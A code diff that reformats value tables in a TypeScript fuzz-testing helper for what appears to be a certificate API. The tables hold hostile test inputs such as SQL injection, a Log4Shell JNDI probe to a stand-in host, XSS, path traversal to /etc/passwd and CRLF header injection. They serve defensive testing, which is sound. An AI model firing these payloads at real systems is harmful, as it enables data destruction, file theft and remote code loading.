@@ -21,45 +21,22 @@ export const weighted = <T>(...choices: [number, fc.Arbitrary<T>][]) =>
   );
 
 /** Strings that have broken parsers, databases, loggers and DN encoders before. */
+// biome-ignore format: a table of values, packed by kind
 export const NASTY_STRINGS: readonly string[] = [
-  ...[
-    "",
-    " ",
-    "   padded   ",
-    "\u0000",
-    "a\u0000b",
-    "\t\n\r",
-    "line\nbreak",
-    "\u001b[31mred\u001b[0m",
-  ],
-  ...["\u007f", "\u0085", "\u2028\u2029", "\u202eevil", "\u200b", "\ufeff", "e\u0301\u0301\u0301"],
-  ...["🎉🔐", "日本語のテキスト", "\ud800", "\udfff", "\ud800\udc00", "\uffff"],
-  ...["null", "undefined", "NaN", "-0", "true", "0x10", "1e309"],
-  ...[
-    "' OR '1'='1",
-    "1; DROP TABLE access_tokens; --",
-    "'); DELETE FROM certificate_authorities; --",
-  ],
+  "", " ", "   padded   ", "\u0000", "a\u0000b", "\t\n\r", "line\nbreak", "\u001b[31mred\u001b[0m",
+  "\u007f", "\u0085", "\u2028\u2029", "\u202eevil", "\u200b", "\ufeff", "e\u0301\u0301\u0301",
+  "🎉🔐", "日本語のテキスト", "\ud800", "\udfff", "\ud800\udc00", "\uffff",
+  "null", "undefined", "NaN", "-0", "true", "0x10", "1e309",
+  "' OR '1'='1", "1; DROP TABLE access_tokens; --", "'); DELETE FROM certificate_authorities; --",
   // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4Shell probe, not a template
-  ...['" OR ""="', "%00", "%s%s%s%n", "${jndi:ldap://example.test/a}", "{{7*7}}"],
-  ...["<script>alert(1)</script>", "../../../../etc/passwd", "__proto__", "constructor", "\\"],
-  ...[
-    "\\u0000",
-    "CN=evil,O=evil",
-    "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n",
-  ],
+  '" OR ""="', "%00", "%s%s%s%n", "${jndi:ldap://example.test/a}", "{{7*7}}",
+  "<script>alert(1)</script>", "../../../../etc/passwd", "__proto__", "constructor", "\\",
+  "\\u0000", "CN=evil,O=evil", "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n",
   "-----BEGIN CERTIFICATE REQUEST-----\n!!!!\n-----END CERTIFICATE REQUEST-----\n",
   "-----BEGIN PRIVATE KEY-----\n-----END PRIVATE KEY-----",
-  ...["*.example.test", "*", "**.example.test", "2030-02-31", "9999-12-31T23:59:59Z", "0000-01-01"],
-  ...[
-    "1970-01-01T00:00:00Z",
-    "2030-01-01T00:00:00+99:99",
-    "1y",
-    "0s",
-    "-5d",
-    "999999999999999999999d",
-  ],
-  ...["1e3d", "RSA_4096x", "rsa_2048", "admin", "127.0.0.1", "::1", "999.999.999.999"],
+  "*.example.test", "*", "**.example.test", "2030-02-31", "9999-12-31T23:59:59Z", "0000-01-01",
+  "1970-01-01T00:00:00Z", "2030-01-01T00:00:00+99:99", "1y", "0s", "-5d", "999999999999999999999d",
+  "1e3d", "RSA_4096x", "rsa_2048", "admin", "127.0.0.1", "::1", "999.999.999.999",
   "spiffe://example.test/../x",
 ];
 
@@ -100,9 +77,10 @@ const number = fc.oneof(
 );
 
 /** Keys no request schema declares: every body schema is strict, so each is a 422. */
+// biome-ignore format: a table of values, packed by kind
 export const UNKNOWN_KEYS: readonly string[] = [
-  ...["colour", "isAdmin", "id", "createdAt", "tokenHash", "__proto__", "constructor"],
-  ...["prototype", "", " ", "a.b", "$where", "\u0000", "🔑", "x".repeat(10_000)],
+  "colour", "isAdmin", "id", "createdAt", "tokenHash", "__proto__", "constructor",
+  "prototype", "", " ", "a.b", "$where", "\u0000", "🔑", "x".repeat(10_000),
 ];
 const jsonKey = fc.oneof(
   fc.constantFrom(...UNKNOWN_KEYS),
@@ -137,11 +115,12 @@ export const otherTypeThan = (original: unknown) =>
     .filter((v) => jsonType(v) !== jsonType(original));
 
 /** JSON text that no parser should accept. */
+// biome-ignore format: a table of values, packed by kind
 export const BROKEN_JSON: readonly string[] = [
-  ...["{", "}", "[", "{]", '{"a":', '{"a":1,}', "{'a':1}", '{"a":01}', '{"a":1}{"b":2}'],
-  ...['{"a":1} trailing', '"unterminated', "[1,2", '{"a" 1}', "{a:1}", "NaN", "Infinity"],
-  ...["undefined", "\u0000", "\ufeff{}", '{"a":"\u0000"}', '{"a":"\\x41"}', '{"a":"\\u12"}'],
-  ...['{"a":tru}', "{\n", "[".repeat(100), '{"a":1', "<xml/>", "type=root&commonName=x"],
+  "{", "}", "[", "{]", '{"a":', '{"a":1,}', "{'a':1}", '{"a":01}', '{"a":1}{"b":2}',
+  '{"a":1} trailing', '"unterminated', "[1,2", '{"a" 1}', "{a:1}", "NaN", "Infinity",
+  "undefined", "\u0000", "\ufeff{}", '{"a":"\u0000"}', '{"a":"\\x41"}', '{"a":"\\u12"}',
+  '{"a":tru}', "{\n", "[".repeat(100), '{"a":1', "<xml/>", "type=root&commonName=x",
 ];
 
 /** Valid JSON text, damaged: cut short, a stray character, or a swapped quote. */
@@ -409,27 +388,31 @@ export function isSendableHeaderValue(value: string): boolean {
   return !/[^\t\x20-\x7e\x80-\xff]/.test(value);
 }
 
+// biome-ignore format: a table of values, packed by kind
 export const CONTENT_TYPES_JSON: readonly string[] = [
-  ...["application/json; charset=utf-8", "APPLICATION/JSON", "application/vnd.api+json"],
-  ...["application/json-patch+json", "application/json; charset=latin1", "application/json;;;"],
+  "application/json; charset=utf-8", "APPLICATION/JSON", "application/vnd.api+json",
+  "application/json-patch+json", "application/json; charset=latin1", "application/json;;;",
 ];
 
 /** Types the API refuses for a body (it only accepts JSON). */
+// biome-ignore format: a table of values, packed by kind
 export const CONTENT_TYPES_WRONG: readonly string[] = [
-  ...["text/plain", "text/json", "text/html; charset=utf-8", "application/x-www-form-urlencoded"],
-  ...["multipart/form-data; boundary=----x", "application/xml", "application/jsonx"],
-  ...["application/octet-stream", "*/*", "json", "application/", ";", "a".repeat(8_000)],
+  "text/plain", "text/json", "text/html; charset=utf-8", "application/x-www-form-urlencoded",
+  "multipart/form-data; boundary=----x", "application/xml", "application/jsonx",
+  "application/octet-stream", "*/*", "json", "application/", ";", "a".repeat(8_000),
 ];
 
+// biome-ignore format: a table of values, packed by kind
 export const ACCEPTS: readonly string[] = [
-  ...["*/*", "application/json", "application/x-pem-file", "text/plain", "text/html"],
-  ...["application/xml", "application/json;q=0, text/plain", "text/plain, application/json"],
-  ...["image/png", ";;;,,,", "*/*;q=abc", "a".repeat(8_000)],
+  "*/*", "application/json", "application/x-pem-file", "text/plain", "text/html",
+  "application/xml", "application/json;q=0, text/plain", "text/plain, application/json",
+  "image/png", ";;;,,,", "*/*;q=abc", "a".repeat(8_000),
 ];
 
+// biome-ignore format: a table of values, packed by kind
 export const IDEMPOTENCY_KEYS: readonly string[] = [
-  ...["key with spaces", " leading", "trailing ", "\ttab", "clé", "a".repeat(255), "a".repeat(256)],
-  ...["k".repeat(10_000), "%00", "' OR 1=1 --", "fuzz-fixed-key-1", "fuzz-fixed-key-2"],
+  "key with spaces", " leading", "trailing ", "\ttab", "clé", "a".repeat(255), "a".repeat(256),
+  "k".repeat(10_000), "%00", "' OR 1=1 --", "fuzz-fixed-key-1", "fuzz-fixed-key-2",
 ];
 
 /** Values a client might put in X-Request-Id; only safe ones may be echoed back. */
@@ -455,27 +438,19 @@ export const JUNK_HEADERS: readonly Record<string, string>[] = [
 ];
 
 /** Path segments the routes must refuse (never a real resource). */
+// biome-ignore format: a table of values, packed by kind
 export const JUNK_SEGMENTS: readonly string[] = [
-  ...[
-    "123",
-    "0",
-    "-1",
-    "null",
-    "undefined",
-    "true",
-    "1e10",
-    "00000000-0000-0000-0000-000000000000",
-  ],
-  ...["FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF", "3c90c3cc0d444b5088888dd25736052a"],
-  ...["{3c90c3cc-0d44-4b50-8888-8dd25736052a}", "3c90c3cc-0d44-4b50-8888-8dd25736052ax"],
-  ...["3c90c3cc-0d44-4b50-8888-8dd25736052", "g0000000-0000-0000-0000-000000000000", "cert_"],
-  ...["cert_00000000000000000000000000000000", "cert_zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz"],
-  ...["ab:cd:ef", "7fffffffffffffffffffffffffffffffffffffff", "f".repeat(41)],
-  ...["%27%20OR%20%271%27%3D%271", "1%3B%20DROP%20TABLE%20access_tokens%3B%20--"],
-  ...["%27%29%3B%20DELETE%20FROM%20certificate_profiles%3B--", "%", "%ZZ", "%E0%A4%A", "%C0%AF"],
-  ...["%C0%80", "%00", "%00abc", "%u0041", "%F0%9F%92%A9", "%ED%A0%80", "%25", "%%%", "%2F"],
-  ...["%0d%0aSet-Cookie:%20x=1", "a%2Fb", "a%20b", "%7B%7D", "a".repeat(65), "a".repeat(10_000)],
-  ...["%41".repeat(5_000), "~", "*", "$", ";", "@", ","],
+  "123", "0", "-1", "null", "undefined", "true", "1e10", "00000000-0000-0000-0000-000000000000",
+  "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF", "3c90c3cc0d444b5088888dd25736052a",
+  "{3c90c3cc-0d44-4b50-8888-8dd25736052a}", "3c90c3cc-0d44-4b50-8888-8dd25736052ax",
+  "3c90c3cc-0d44-4b50-8888-8dd25736052", "g0000000-0000-0000-0000-000000000000", "cert_",
+  "cert_00000000000000000000000000000000", "cert_zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz",
+  "ab:cd:ef", "7fffffffffffffffffffffffffffffffffffffff", "f".repeat(41),
+  "%27%20OR%20%271%27%3D%271", "1%3B%20DROP%20TABLE%20access_tokens%3B%20--",
+  "%27%29%3B%20DELETE%20FROM%20certificate_profiles%3B--", "%", "%ZZ", "%E0%A4%A", "%C0%AF",
+  "%C0%80", "%00", "%00abc", "%u0041", "%F0%9F%92%A9", "%ED%A0%80", "%25", "%%%", "%2F",
+  "%0d%0aSet-Cookie:%20x=1", "a%2Fb", "a%20b", "%7B%7D", "a".repeat(65), "a".repeat(10_000),
+  "%41".repeat(5_000), "~", "*", "$", ";", "@", ",",
 ];
 
 /** Segments the URL parser resolves (dot segments): they may land on another real route. */
@@ -498,14 +473,12 @@ export const junkSegment: fc.Arbitrary<string> = fc.oneof(
   hostileString.map((s) => encodeSegment(s.slice(0, 200)) || "x"),
 );
 
+// biome-ignore format: a table of values, packed by kind
 export const QUERIES: readonly string[] = [
-  ...["?include[]=content", "?include=content&include[]=content&include[]=nothing", "?include[]="],
-  ...[`?include[]=${"c".repeat(10_000)}`, "?a=%ZZ&b=%", `?${"x=1&".repeat(2_000)}`],
-  ...[
-    "?__proto__[admin]=true&constructor[prototype][x]=1",
-    "?limit=-1&offset=99999999999999999999",
-  ],
-  ...["?%00=%00", "?", "?&&&=&="],
+  "?include[]=content", "?include=content&include[]=content&include[]=nothing", "?include[]=",
+  `?include[]=${"c".repeat(10_000)}`, "?a=%ZZ&b=%", `?${"x=1&".repeat(2_000)}`,
+  "?__proto__[admin]=true&constructor[prototype][x]=1", "?limit=-1&offset=99999999999999999999",
+  "?%00=%00", "?", "?&&&=&=",
 ];
 
 export const QUERY_VALUES = [
